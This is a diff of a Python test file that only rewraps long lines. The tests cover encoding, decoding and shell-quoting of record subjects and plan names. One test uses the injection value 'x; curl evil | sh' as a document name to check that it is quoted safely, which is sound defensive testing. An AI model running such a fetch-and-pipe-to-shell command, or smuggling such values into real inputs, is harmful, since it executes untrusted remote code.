@@ -16,7 +16,9 @@ from dos.questions.units import UnitHeld
 
 NAMED = (subject.Lane, subject.Unit, subject.RunSubject, subject.Host)
 subjects = st.one_of(
-    *(st.builds(kind, st.text(min_size=1)) for kind in NAMED), st.builds(subject.Limit, keys), st.just(subject.Fleet())
+    *(st.builds(kind, st.text(min_size=1)) for kind in NAMED),
+    st.builds(subject.Limit, keys),
+    st.just(subject.Fleet()),
 )
 
 
@@ -83,7 +85,9 @@ def test_what_happens_without_an_answer_is_an_answer_or_never_happens(question):
 
 @pytest.mark.parametrize("about", ["lane_failed", "budget", "baseline", "limit", "nonsense", ""])
 def test_what_lacks_what_its_class_needs_still_holds_what_waits(about):
-    record = Record(id="x", about=about, question="What?", waits=["lane:api", "odd"], choices={"retry": "r"})
+    record = Record(
+        id="x", about=about, question="What?", waits=["lane:api", "odd"], choices={"retry": "r"}
+    )
     found = catalog.decode(record)
     assert isinstance(found, Unrecognised)
     assert found.waits == (subject.Lane("api"), subject.Unrecognised("odd"))
@@ -91,7 +95,8 @@ def test_what_lacks_what_its_class_needs_still_holds_what_waits(about):
 
 
 @pytest.mark.parametrize(
-    ("document", "word"), [("docs/a-plan.md", "docs/a-plan.md"), ("x; curl evil | sh", "'x; curl evil | sh'")]
+    ("document", "word"),
+    [("docs/a-plan.md", "docs/a-plan.md"), ("x; curl evil | sh", "'x; curl evil | sh'")],
 )
 def test_the_name_of_a_plan_is_one_word_of_the_command_that_is_proposed(document, word):
     held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", document=document, line=7)
@@ -99,9 +104,14 @@ def test_the_name_of_a_plan_is_one_word_of_the_command_that_is_proposed(document
 
 
 def test_where_a_unit_stands_is_read_from_the_one_word_of_an_older_version():
-    held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", document="docs/a:b.md", line=7)
+    held = UnitHeld.ask(
+        "P/A1", "DRAFT_CLASS", "its plan is a draft", document="docs/a:b.md", line=7
+    )
     record = catalog.encode(held)
     older = structs.replace(
-        record, detail={key: value for key, value in record.detail.items() if key not in ("document", "line")}
+        record,
+        detail={
+            key: value for key, value in record.detail.items() if key not in ("document", "line")
+        },
     )
     assert catalog.decode(older) == held
